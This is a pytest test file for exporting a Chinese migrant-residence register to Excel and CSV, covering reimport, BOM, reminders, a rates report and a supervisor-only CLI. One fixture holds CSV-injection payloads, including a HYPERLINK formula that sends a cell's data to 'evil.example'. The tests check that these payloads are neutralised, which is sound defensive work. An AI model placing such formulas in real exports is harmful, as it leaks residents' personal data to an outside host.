"""Ledger export: the register of an area as a ledger that imports back to the same register;
CSV with and without BOM; reminders; the rates report; the CLI."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlalchemy import select

from desktop.services.ledger_cli import run_export_ledger
from desktop.services.ledger_export import (
    LEDGER_COLUMNS,
    ExportError,
    csv_text,
    export_ledger,
    export_rates_report,
    export_reminders,
    resolve_area,
)
from desktop.services.ledger_import import import_ledger
from desktop.store import tables as t
from desktop.store.db import Store, open_store, set_state
from desktop.store.records import write_record

FIXTURE = Path(__file__).resolve().parents[1] / "fixtures" / "ledger_sample.xlsx"
TODAY = date(2024, 6, 1)
_FIELDS = ("id_type", "name", "sex", "birth_date", "ethnicity", "hukou_code", "hukou_address", "phone",
           "education", "marital_status", "political_status", "employer_name", "employer_uscc", "occupation",
           "arrival_date", "reason", "note")


def register(store: Store) -> dict[str, Any]:
    """The register as comparable values: people with their fields, room, town, household mates, landlord."""
    r, reg, sa, ru, a = (t.resident, t.residence_registration, t.standard_address, t.rental_unit, t.area)
    with store.read() as conn:
        areas = {x.id: x for x in conn.execute(select(a))}
        landlords = {x.address_id: (x.landlord_name, x.landlord_phone, x.landlord_id_number)
                     for x in conn.execute(select(ru))}
        rows = conn.execute(
            select(r, sa.c.full_text, sa.c.grid_id, reg.c.household_id, reg.c.relationship, reg.c.address_id)
            .select_from(reg.join(r, r.c.id == reg.c.resident_id).join(sa, sa.c.id == reg.c.address_id))
            .where(reg.c.status == "living")
        ).mappings().all()
    households: dict[str, set[str]] = {}
    for x in rows:
        households.setdefault(str(x["household_id"]), set()).add(str(x["id_number"]))
    out: dict[str, Any] = {}
    for x in rows:
        grid = areas[x["grid_id"]]
        town = areas[areas[grid.parent_id].parent_id]
        out[str(x["id_number"])] = (
            tuple(x[f] for f in _FIELDS), x["full_text"], town.name, x["relationship"],
            frozenset(households[str(x["household_id"])]), landlords.get(x["address_id"]),
        )
    return out


@pytest.fixture
def imported(store: Store) -> Store:
    import_ledger(store, FIXTURE, user="tester", today=TODAY)
    return store


@pytest.mark.parametrize("name", ["台账导出.xlsx", "台账导出.csv"])
def test_export_reimported_gives_the_same_register(imported: Store, tmp_path: Path, name: str) -> None:
    out = tmp_path / name
    assert export_ledger(imported, "330212", out, bom=True) == 286
    fresh = open_store(tmp_path / "fresh.sqlite")
    try:
        r = import_ledger(fresh, out, user="tester", today=TODAY)
        assert r.totals["rejected"] == r.totals["duplicate"] == 0
        assert register(fresh) == register(imported)
    finally:
        fresh.close()
    again = import_ledger(imported, out, user="tester", today=TODAY)  # into the same store: nothing changes
    assert again.totals["unchanged"] == 286


def test_xlsx_layout_keeps_ids_as_text(imported: Store, tmp_path: Path) -> None:
    out = tmp_path / "ledger.xlsx"
    export_ledger(imported, "330212", out)
    wb = openpyxl.load_workbook(out)
    ws = wb.active
    assert ws is not None
    assert "流动人口居住登记台账" in str(ws.cell(1, 1).value)
    header = [c.value for c in ws[2]]
    assert header == [h for h, _k in LEDGER_COLUMNS]
    col = header.index("公民身份号码") + 1
    ids = [ws.cell(r, col) for r in range(3, ws.max_row + 1)]
    assert all(c.data_type == "s" and c.number_format == "@" for c in ids)
    assert "411422198703018025" in {c.value for c in ids}  # the upgraded legacy number
    sex = {ws.cell(r, header.index("民族") + 1).value for r in range(3, ws.max_row + 1)}
    assert "汉族" in sex


def test_csv_bom_option(imported: Store, tmp_path: Path) -> None:
    plain, bom = tmp_path / "a.csv", tmp_path / "b.csv"
    export_ledger(imported, "330212", plain, as_csv=True)
    export_ledger(imported, "330212", bom, as_csv=True, bom=True)
    assert not plain.read_bytes().startswith(b"\xef\xbb\xbf")
    assert bom.read_bytes().startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(bom.read_text(encoding="utf-8-sig").splitlines()))
    assert rows[0][:2] == ["序号", "姓名"] and len(rows) == 287


def test_export_of_one_town_and_unknown_area(imported: Store, tmp_path: Path) -> None:
    town = resolve_area(imported, "330212002")
    assert town.name == "钟公庙街道"
    n = export_ledger(imported, town.id, tmp_path / "t.xlsx")
    assert 0 < n <= 286
    with pytest.raises(ExportError):
        resolve_area(imported, "999999")


def test_reminders_and_rates_report(imported: Store, tmp_path: Path) -> None:
    with imported.read() as conn:
        unit = conn.execute(select(t.rental_unit.c.id)).scalars().first()
        rid = conn.execute(select(t.resident.c.id)).scalars().first()
    with imported.write() as conn:
        write_record(conn, "rental_unit", str(unit), {"lease_end": "2024-06-20"}, user="u", device_id="d")
        write_record(conn, "residence_permit", "p1", {"resident_id": rid, "number": "JZZ001",
                                                      "issue_date": "2023-05-01",
                                                      "endorsements": json.dumps([])}, user="u", device_id="d")
    out = tmp_path / "reminders.csv"
    assert export_reminders(imported, "330212", out, today=TODAY, as_csv=True) == 2
    text = out.read_text(encoding="utf-8")
    assert "租约到期" in text and "居住证签注已逾期" in text and "JZZ001" in text
    rates = tmp_path / "rates.xlsx"
    assert export_rates_report(imported, "330212", rates) >= 3
    wb = openpyxl.load_workbook(rates, read_only=True)
    cells = {str(c) for row in wb["三率"].iter_rows(values_only=True) for c in row if c is not None}
    wb.close()
    assert {"流动人口居住登记率", "登记信息准确率", "居住出租房屋登记率"} <= cells
    assert "无数据" in cells  # no verification yet: no data, never 0 %
    as_csv = tmp_path / "rates.csv"
    export_rates_report(imported, "330212", as_csv, as_csv=True, bom=True)
    assert as_csv.read_bytes().startswith(b"\xef\xbb\xbf") and "抽样设计" in as_csv.read_text(encoding="utf-8-sig")


def test_cli_export(imported: Store, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    profile = Path(imported.path).parent
    out = tmp_path / "cli.csv"
    assert run_export_ledger(["--area", "330212", "--out", str(out), "--profile", str(profile)]) == 2
    assert "supervisor" in capsys.readouterr().err  # issue 7: a ledger export is for supervisors
    with imported.write() as conn:
        set_state(conn, "auth_role", "supervisor")
    assert run_export_ledger(["--area", "330212", "--out", str(out), "--bom", "--profile", str(profile)]) == 0
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    assert "286 rows" in capsys.readouterr().out
    assert run_export_ledger(["--area", "nope", "--out", str(out), "--profile", str(profile)]) == 2
    assert run_export_ledger(["--area", "330212", "--out", str(out), "--profile", str(tmp_path / "none")]) == 2


#: Texts a spreadsheet would run as formulas when opened from a CSV (OWASP "CSV Injection").
_FORMULAS = {"employer_name": '=HYPERLINK("http://evil.example/?d="&A2,"点我")', "occupation": "-2+3",
             "note": "@SUM(1+1)", "hukou_address": "+86 某地"}


def test_csv_cells_that_start_a_formula_get_a_quote() -> None:
    row = ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "'=x", "a=b", "'x", "", -5, 2.5, None]
    [back] = list(csv.reader(io.StringIO(csv_text([row]), newline="")))
    assert back == ["'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "''=x", "a=b", "'x", "", "-5", "2.5", ""]


def test_every_text_survives_the_csv_quote_and_its_removal(tmp_path: Path) -> None:
    """A review found ``''=1`` came back as ``'=1``: quotes before a formula start count too. Every text, however
    many quotes it starts with, is written safe and read back exactly."""
    from desktop.services.ledger_parse import read_ledger

    q = "'"
    texts = ["=1", q + "=1", q * 2 + "=1", q * 3 + "-2", q, q * 2, q + "abc", q * 2 + "abc", "a'=b", "-",
             q + "-", "@x", q + "@x", "普通文字"]
    path = tmp_path / "quotes.csv"
    rows = [["张三", "330212199001011234", "惊驾路41号", v] for v in texts]
    path.write_text(csv_text([["姓名", "公民身份号码", "居住地址", "备注"], *rows]), encoding="utf-8")
    written = [row[3] for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline=""))][1:]
    assert [w for w in written if w[:1] in ("=", "+", "-", "@")] == []  # nothing a spreadsheet would run
    table = read_ledger(path)
    assert [r.cells[3] for r in table.rows] == texts


def test_csv_export_neutralises_formulas_and_reimports_them(imported: Store, tmp_path: Path) -> None:
    with imported.read() as conn:
        rid = conn.execute(select(t.resident.c.id).order_by(t.resident.c.id_number)).scalars().first()
        other = conn.execute(select(t.resident.c.id).order_by(t.resident.c.id_number.desc())).scalars().first()
        unit = conn.execute(select(t.rental_unit.c.id)).scalars().first()
    with imported.write() as conn:
        write_record(conn, "resident", str(rid), _FORMULAS, user="u", device_id="d")
        write_record(conn, "resident", str(other), {"note": "'=不是公式"}, user="u", device_id="d")
        write_record(conn, "rental_unit", str(unit), {"landlord_name": "=1+1", "lease_end": "2024-06-20"},
                     user="u", device_id="d")
    out = tmp_path / "台账.csv"
    export_ledger(imported, "330212", out, as_csv=True, bom=True)
    cells = [c for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"), newline="")) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert {"'" + v for v in _FORMULAS.values()} | {"'=1+1", "''=不是公式"} <= set(cells)
    fresh = open_store(tmp_path / "fresh.sqlite")
    try:
        r = import_ledger(fresh, out, user="tester", today=TODAY)
        assert r.totals["rejected"] == r.totals["duplicate"] == 0
        assert register(fresh) == register(imported)
    finally:
        fresh.close()
    reminders = tmp_path / "提醒.csv"
    export_reminders(imported, "330212", reminders, today=TODAY, as_csv=True)
    assert "'=1+1" in {c for row in csv.reader(reminders.read_text(encoding="utf-8").splitlines()) for c in row}


def test_xlsx_widths_and_text_format_on_every_data_row(imported: Store, tmp_path: Path) -> None:
    with imported.read() as conn:
        unit = conn.execute(select(t.rental_unit.c.id)).scalars().first()
    with imported.write() as conn:  # an empty 房东电话, where a number typed later must stay text
        write_record(conn, "rental_unit", str(unit), {"landlord_phone": ""}, user="u", device_id="d")
    out = tmp_path / "ledger.xlsx"
    export_ledger(imported, "330212", out)
    wb = openpyxl.load_workbook(out)
    ws = wb.active
    assert ws is not None
    header = [c.value for c in ws[2]]
    col = {h: header.index(h) + 1 for h in header}
    for h in ("公民身份号码", "联系电话", "房东电话", "房东身份证号"):
        cells = [ws.cell(r, col[h]) for r in range(3, ws.max_row + 1)]
        assert all(c.number_format == "@" for c in cells), h
        assert any(c.value is None for c in cells) == (h != "公民身份号码"), h  # empty cells are formatted too

    def units(v: object) -> int:  # Excel column width units: a digit 1, a CJK character 2
        text = "" if v is None else str(v)
        return len(text) + sum(1 for ch in text if ord(ch) > 0x2E7F)

    for h in ("公民身份号码", "联系电话", "出生日期", "来鄞日期", "居住地址", "房东电话", "房东身份证号"):
        letter = openpyxl.utils.get_column_letter(col[h])
        width = ws.column_dimensions[letter].width
        longest = max(units(ws.cell(r, col[h]).value) for r in range(2, ws.max_row + 1))
        assert width >= longest, (h, width, longest)
    assert ws.column_dimensions[openpyxl.utils.get_column_letter(col["公民身份号码"])].width >= 18
